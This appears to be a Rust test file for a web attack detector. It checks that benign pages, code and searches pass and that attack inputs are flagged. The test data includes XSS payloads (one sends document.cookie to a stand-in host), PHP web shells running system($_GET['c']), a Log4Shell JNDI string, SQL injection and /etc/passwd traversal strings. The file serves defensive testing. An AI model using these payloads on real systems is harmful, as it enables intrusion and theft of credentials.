//! Texts written to be read, and the attacks that look like them.

use super::*;
use crate::web::decode;

/// Values as an application gets them in a document.
fn of_document(value: &str) -> Vec<Hit> {
    let body = format!("{{\"v\":{}}}", serde_json::to_string(value).unwrap());
    hits(&Request {
        method: b"POST",
        target: b"/api/pages",
        content_type: b"application/json",
        body: body.as_bytes(),
        ..Request::default()
    })
}

fn loud(value: &str) -> Vec<Hit> {
    let mut hits = of_value(value);
    hits.extend(of_document(value));
    hits.retain(|hit| hit.score >= THRESHOLD);
    hits
}

fn silent(values: &[&str]) {
    for value in values {
        assert!(loud(value).is_empty(), "{value:?}: {:?}", loud(value));
    }
}

fn told(kind: Kind, values: &[&str]) {
    for value in values {
        assert!(loud(value).iter().any(|hit| hit.kind == kind), "{value:?}: {:?}", loud(value));
    }
}

#[test]
fn pages_that_editors_save_stay_quiet() {
    silent(&[
        "<p>See <a href=\"../../../../guide/index.html\">the guide</a></p><ul><li>one</li></ul>",
        "<table><tbody><tr><td>select</td><td>from</td></tr><tr><td>where 1=1</td></tr></tbody></table>",
        "<p>Watch</p><p><iframe width=\"560\" height=\"315\" src=\"https://video.example/embed/a\"></iframe></p>",
        "<div><link rel=\"stylesheet\" href=\"/a.css\"><p>x</p></div><form><input name=\"q\"></form>",
        "<h2>XSS</h2><p>Never write <code>&lt;script&gt;alert(1)&lt;/script&gt;</code></p>",
        "</div></details></section></div></main></body></html>",
    ]);
}

#[test]
fn what_runs_in_a_page_is_told() {
    told(
        Kind::Xss,
        &[
            "<p>a</p><p>b</p><script>fetch('//h.example/'+document.cookie)</script>",
            "<ul><li>a</li><li><img src=x onerror=alert(1)></li></ul>",
            "<p>a</p><p><a href=\"java&#x73;cript:alert(1)\">b</a></p>",
            "<p>a</p><p>b</p><iframe srcdoc=\"x\"></iframe>",
            "<div><p>a</p><meta http-equiv=\"refresh\" content=\"0;url=//h.example\"></div>",
        ],
    );
}

#[test]
fn lines_of_a_program_stay_quiet() {
    silent(&[
        "import { reverse } from './patch/reverse.js';",
        "const onError = (err) => {\n  if (err) {\n    log('a', err);\n  }\n}",
        "out.write(buffer.slice(0, read));",
        "if (a) {\n  return `+${l.slice(1)}`;\n}\nreturn l;",
        "what is the <script> tag in html",
        "window.location.href redirect",
    ]);
    told(
        Kind::Xss,
        &[
            "<script>alert(1)",
            "x' onerror=alert(1) y='",
            "document.write('<b>')",
            "document.cookie",
        ],
    );
}

#[test]
fn searches_about_commands_and_files_stay_quiet() {
    silent(&[
        "/etc/hosts not working",
        "linux下cat /etc/passwd命令的作用",
        "whoami meaning",
        "more | less",
        "add | set | drop",
        "cd \"project folder\"",
        "`${name}@${wanted}` +",
        "$(selector)",
        "$(Tr0ub4dor&3)",
        "${name} not replaced in template",
        "C & C++; Java",
        "路径 ../../img/logo.png 找不到",
        "the [guide](../../CONTRIBUTING.md)",
        "deactivate () {",
        "open = was_open || false",
    ]);
}

#[test]
fn commands_that_prove_themselves_are_told() {
    told(
        Kind::Command,
        &[
            "`sleep 5`",
            "\"; sleep 5; \"",
            "x|sleep 7",
            "$(sleep 3)",
            "strace ifconfig",
            "1;java -version",
            "$(id)",
            "${HOME}",
        ],
    );
    told(Kind::Traversal, &["/etc/hosts", "../../etc/hosts not here", "cat /etc/passwd"]);
}

#[test]
fn queries_talked_about_stay_quiet() {
    silent(&[
        "drop table saw vs router table",
        "SELECT statement in sql",
        "it's your turn; reply with 'yes' or 'no'",
        "async exec (args) {",
        "CREATE FUNCTION area(figure) RETURNS float",
        "ALTER FUNCTION area(figure) PARALLEL SAFE;",
        "kind: Literal[\"union\"]",
        "SELECT P.* FROM pg_buffercache_pages",
    ]);
    told(
        Kind::Sqli,
        &[
            "drop table users",
            "1; drop table if exists users;",
            "exec('drop table t')",
            "1\u{2}and\u{4}7=7",
            "1'--abc\nor--def\n7=7#",
            "a'or'1'='1",
        ],
    );
}

#[test]
fn listings_of_php_are_told_apart_by_what_they_run() {
    silent(&[
        "<?php\n// A class of the manual.\nclass Point {\n  public $x = 'a';\n  public $y = \"b\";\n  public $z = 'c';\n}\n",
    ]);
    told(
        Kind::Code,
        &["<?php\n// x\n$a = 'b';\n$c = 'd';\n$e = 'f';\n@eval($_POST['k']);\n", "<?php echo 1;?>"],
    );
}

#[test]
fn statements_joined_to_a_closed_text_are_told() {
    told(
        Kind::Code,
        &[
            "';exit(md5('x'));//",
            "a;exit(md5('x'));//",
            "\";d=new Date();do{c=new Date();}while(c-d<9000);//",
        ],
    );
    told(Kind::Sqli, &["%1%' %U%N%I%O%N %S%E%L%E%C%T %N%U%L%L%-%-"]);
    told(Kind::Traversal, &["/etc/services", "..%u2216..%u2216..%u2216x"]);
    silent(&["x; // see f()", "100% of a%b", "/etc", "50%-60% off 20%"]);
}

fn sent(target: &str, kind: &str, body: &str) -> Vec<Hit> {
    let mut hits = hits(&Request {
        method: b"POST",
        target: target.as_bytes(),
        content_type: kind.as_bytes(),
        body: body.as_bytes(),
        ..Request::default()
    });
    hits.retain(|hit| hit.score >= THRESHOLD);
    hits
}

#[test]
fn rights_that_an_account_gives_itself_are_told() {
    const FORM: &str = "application/x-www-form-urlencoded";
    const JSON: &str = "application/json";
    for (target, kind, body) in [
        ("/register", FORM, "name=a&mail=a%40b.example&is_admin=1"),
        ("/api/me", JSON, "{\"name\":\"a\",\"role\":\"admin\"}"),
        ("/users/profile", JSON, "{\"user\":{\"isAdmin\": true}}"),
        ("/signup", FORM, "user%5Bname%5D=a&user%5Brole%5D=administrator"),
    ] {
        let hits = sent(target, kind, body);
        assert!(hits.iter().any(|hit| hit.kind == Kind::AuthBypass), "{target} {body}: {hits:?}");
    }
    for (target, kind, body) in [
        ("/admin/users/profile", FORM, "name=a&role=admin"),
        ("/register", FORM, "name=a&role=student&admin=0"),
        ("/api/me", JSON, "{\"name\":\"admin\",\"role\":\"user\"}"),
        ("/api/posts", JSON, "{\"role\":\"admin\"}"),
    ] {
        assert!(sent(target, kind, body).is_empty(), "{target} {body}");
    }
}

#[test]
fn an_attack_in_several_parameters_of_one_name_is_told() {
    for query in
        ["id=1/*&id=*/union/*&id=*/select/*&id=*/2,3", "q=<scr&x=1&q=ipt>alert(1)</script>"]
    {
        let target = format!("/a?{query}");
        let hits =
            hits(&Request { method: b"GET", target: target.as_bytes(), ..Request::default() });
        assert!(hits.iter().any(|hit| hit.score >= THRESHOLD), "{query}: {hits:?}");
    }
    for query in ["tag=a%20b&tag=c%20d", "c[]=(1)&c[]=(2)", "sort=name&sort=-date"] {
        let target = format!("/a?{query}");
        let hits =
            hits(&Request { method: b"GET", target: target.as_bytes(), ..Request::default() });
        assert!(hits.iter().all(|hit| hit.score < THRESHOLD), "{query}: {hits:?}");
    }
}

#[test]
fn what_a_compressed_body_holds_is_read() {
    const GZIP: &str =
        "H4sIAAAAAAACA8tMsTVUVyjNy8zPUyhOzUlNLlHIK83J0SlLLSoGimlo6uoqqCXaGgEAFS19jCgAAAA=";
    let raw = decode::bytes_of_base64(GZIP.as_bytes()).unwrap();
    let wide: String = raw.iter().map(|byte| char::from(*byte)).collect();
    let bodies: [&[u8]; 3] = [&raw, wide.as_bytes(), GZIP.as_bytes()];
    let headers: [(&[u8], &[u8]); 1] = [(b"Content-Encoding", b"gzip")];
    let request = Request {
        method: b"POST",
        target: b"/a",
        content_type: b"application/x-www-form-urlencoded",
        headers: &headers,
        ..Request::default()
    };
    for body in bodies {
        let hits = hits(&Request { body, ..request });
        assert!(
            hits.iter().any(|hit| hit.kind == Kind::Sqli && hit.score >= THRESHOLD),
            "{body:?}: {hits:?}"
        );
    }
    // Said to be compressed and not.
    let hits = hits(&Request { body: b"x=a%20word", ..request });
    assert!(hits.iter().all(|hit| hit.score < THRESHOLD), "{hits:?}");
}

/// What is told of a part of a form with this disposition.
fn of_part(disposition: &str, content: &[u8]) -> Vec<Hit> {
    let mut body =
        format!("--B\r\nContent-Disposition: form-data; {disposition}\r\n\r\n").into_bytes();
    body.extend_from_slice(content);
    body.extend_from_slice(b"\r\n--B--\r\n");
    of_raw(b"multipart/form-data; boundary=B", &body)
}

fn of_raw(content_type: &[u8], body: &[u8]) -> Vec<Hit> {
    let mut told = hits(&Request {
        method: b"POST",
        target: b"/up",
        content_type,
        body,
        ..Request::default()
    });
    told.retain(|hit| hit.score >= THRESHOLD);
    told
}

const FILE: &str = "name=\"f\"; filename=\"a.jpg\"";

#[test]
fn the_bytes_of_a_file_are_no_text() {
    let picture = b"\xff\xd8\xff\xe0\0\x10JFIF\x01{{\x02;id\x07<%\x11|ls\x12`x`\0\x03${a}\x04' or 1\x05=1--\x01"
        .repeat(9);
    let written = |b: &u8| match b {
        b' '..=b'~' => char::from(*b).to_string(),
        b => format!("\\x{b:02x}"),
    };
    let escaped: String = picture.iter().map(written).collect();
    let replaced = String::from_utf8_lossy(&picture).into_owned();
    for bytes in [&picture[..], escaped.as_bytes(), replaced.as_bytes()] {
        assert!(of_part(FILE, bytes).is_empty(), "{:?}", of_part(FILE, bytes));
        assert!(of_raw(b"image/jpeg", bytes).is_empty());
        for page in [
            &b"\0<?php system($_GET['c']); ?>\0"[..],
            b"\0<?php /*\x01*/system($_GET[0]);/*\x01*/",
            b"\0<?\nsystem($_GET['c']); ?>",
            b"\0<script>alert(1)</script>",
            &[&b"\0<!decoy>\0".repeat(20)[..], &[0; 4000], b"<?php system($_GET['c']); ?>"]
                .concat(),
        ] {
            let told = of_part(FILE, &[bytes, page].concat());
            assert!(!told.is_empty(), "{}", String::from_utf8_lossy(page));
        }
    }
}

#[test]
fn who_chooses_a_media_type_hides_nothing_behind_it() {
    for (kind, body) in [
        (&b"image/png"[..], &b"aaaaaaaaaaaaaaaaa${jndi:ldap://a.b/c}\\x\\x\\x\\x"[..]),
        (b"foo/bar", b"a=aaaaaaaaaaaaaaaaaaa&z=\\x01\\x01\\x01\\x01\\x01&q=1'+or+1=1--+"),
        (b"application/octet-stream", b"aaaaaaaaaaaaaaaaaaaaaa\x01\x01\x01\n;cat /etc/passwd;\n"),
    ] {
        assert!(!of_raw(kind, body).is_empty(), "{}", String::from_utf8_lossy(body));
    }
    let field = b"aaaaaaaaaaaaaaaa' or 1=1 -- \x01\x01\x01";
    for disposition in ["name=\"filename\"", "name=\"id\"\r\nX: filename", FILE] {
        assert!(!of_part(disposition, field).is_empty(), "{disposition}");
    }
}
